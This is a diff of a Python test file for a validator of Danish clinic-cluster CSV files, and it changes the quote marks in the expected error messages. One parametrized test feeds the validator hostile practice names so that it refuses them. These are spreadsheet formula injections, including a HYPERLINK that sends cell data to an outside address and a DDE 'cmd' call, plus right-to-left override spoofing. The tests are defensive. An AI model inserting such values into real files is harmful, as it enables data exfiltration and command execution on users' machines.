@@ -185,7 +185,7 @@ def test_truncated_anywhere(cut):
 def test_truncated_inside_the_last_number():
     text = write_cluster_file(EXAMPLE)
     cut = text[: text.index("\r\nSlut")][:-2]  # "…;12001" becomes "…;120"
-    expect_error(cut, "slutter uden linjen «Slut på klyngedatafilen»", "afkortet")
+    expect_error(cut, "slutter uden linjen »Slut på klyngedatafilen«", "afkortet")
 
 
 def test_a_deleted_practice_is_noticed():
@@ -193,7 +193,7 @@ def test_a_deleted_practice_is_noticed():
     number = line_number(text, "Praksis C;")
     lines = lines_of(text)
     del lines[number - 1]
-    expect_error(BOM + "\r\n".join(lines), "har 4 praksis", "«Antal praksis» siger 5")
+    expect_error(BOM + "\r\n".join(lines), "har 4 praksis", "»Antal praksis« siger 5")
 
 
 def test_non_whole_count_names_the_line():
@@ -202,10 +202,10 @@ def test_non_whole_count_names_the_line():
     expect_error(
         replace_line(text, number, "Praksis B;7955;119,5;39699"),
         f"linje {number}",
-        "«video»",
-        "«119,5» er ikke et helt tal",
+        "»video«",
+        "»119,5« er ikke et helt tal",
     )
-    expect_error(replace_line(text, number, "Praksis B;-7955;119;39699"), f"linje {number}", "«Tilmeldte»")
+    expect_error(replace_line(text, number, "Praksis B;-7955;119;39699"), f"linje {number}", "»Tilmeldte«")
     expect_error(replace_line(text, number, "Praksis B;0;119;39699"), f"linje {number}", "mindst 1")
 
 
@@ -226,17 +226,17 @@ def test_hand_edited_figures_are_noticed():
     text = write_cluster_file(EXAMPLE)
     number = line_number(text, "video;")
     expect_error(text.replace(";14021;32,4", ";14021;42,4"), f"linje {number}", "passer ikke")
-    expect_error(text.replace(";14021;32,4", ";1000;2,3"), "klyngens antal for «Videokonsultationer» er større")
-    expect_error(text.replace("Praksis B;", "Praksis A;"), "«Praksis A» står to gange")
+    expect_error(text.replace(";14021;32,4", ";1000;2,3"), "klyngens antal for »Videokonsultationer« er større")
+    expect_error(text.replace("Praksis B;", "Praksis A;"), "»Praksis A« står to gange")
     expect_error(text.replace("Regionens praksis;56", "Regionens praksis;3"), "regionen har færre praksis")
 
 
 def test_metadata_problems_name_the_line():
     text = write_cluster_file(EXAMPLE)
     expect_error(text.replace("Dato;2026-11-30", "Dato;30/11/2026"), "linje 6", "ikke en dato")
-    expect_error(text.replace("Data;anonyme", "Data;hemmelige"), "linje 7", "«anonyme» eller «åbne»")
-    expect_error(text.replace("Første dag;", "Fra;"), "linje 3", "«Fra» er ikke et felt")
-    expect_error(text.replace("Sidste dag;2025-12-31\r\n", ""), "mangler feltet «Sidste dag»")
+    expect_error(text.replace("Data;anonyme", "Data;hemmelige"), "linje 7", "»anonyme« eller »åbne«")
+    expect_error(text.replace("Første dag;", "Fra;"), "linje 3", "»Fra« er ikke et felt")
+    expect_error(text.replace("Sidste dag;2025-12-31\r\n", ""), "mangler feltet »Sidste dag«")
     expect_error(text.replace("Sidste dag;2025-12-31", "Sidste dag;2025-02-30"), "linje 4", "ikke en dato")
     expect_error(text.replace("Antal praksis;5", "Antal praksis;4"), "kun 4 praksis", "mindst 5")
     expect_error(text.replace('"Klynge Viborg; Nord"', '"Klynge Viborg; Nord'), "linje 5", "ikke lukket")
@@ -254,7 +254,7 @@ def test_the_period_is_dated():
 def test_a_version_1_file_asks_for_a_new_one():
     """Version 1 named its period in words ("de seneste to år"), so a practice could not match its own figures."""
     old = write_cluster_file(EXAMPLE).replace("version 2", "version 1")
-    expect_error(old, "linje 1", "første udgave («version 1»), som ikke har periodens første og sidste dag")
+    expect_error(old, "linje 1", "første udgave (»version 1«), som ikke har periodens første og sidste dag")
 
 
 def test_fewer_than_five_practices_refused():
@@ -362,11 +362,11 @@ def test_property_any_text_is_read_or_refused_in_danish(text):
 @pytest.mark.parametrize(
     ("label", "message"),
     [
-        ('=HYPERLINK("http://127.0.0.2/?d="&B2;"Klik")', "begynder med «=», som et regneark læser som en formel"),
-        ("=cmd|' /C calc'!A0", "begynder med «=»"),
-        ("+1+1", "begynder med «+»"),
-        ("-2+3", "begynder med «-»"),
-        ("@SUM(A1)", "begynder med «@»"),
+        ('=HYPERLINK("http://127.0.0.2/?d="&B2;"Klik")', "begynder med »=«, som et regneark læser som en formel"),
+        ("=cmd|' /C calc'!A0", "begynder med »=«"),
+        ("+1+1", "begynder med »+«"),
+        ("-2+3", "begynder med »-«"),
+        ("@SUM(A1)", "begynder med »@«"),
         ("Praksis\u200bB", "usynligt tegn (U+200B)"),
         ("Praksis \u202eA gnp.exe", "usynligt tegn (U+202E)"),
         ("P" * 81, "er 81 tegn langt; et navn har højst 80 tegn"),
@@ -381,10 +381,10 @@ def test_hostile_practice_names_are_refused(label, message):
 
 def test_hostile_cluster_and_indicator_names_are_refused():
     text = write_cluster_file(EXAMPLE)
-    expect_error(text.replace('"Klynge Viborg; Nord"', "=2+2"), "linje 5", "«Klynge» «=2+2» begynder med «=»")
+    expect_error(text.replace('"Klynge Viborg; Nord"', "=2+2"), "linje 5", "»Klynge« »=2+2« begynder med »=«")
     number = line_number(text, "video;")
     expect_error(
-        text.replace(";Videokonsultationer;", ";@Video;"), f"linje {number}", "«Navn» «@Video» begynder med «@»"
+        text.replace(";Videokonsultationer;", ";@Video;"), f"linje {number}", "»Navn« »@Video« begynder med »@«"
     )
 
 
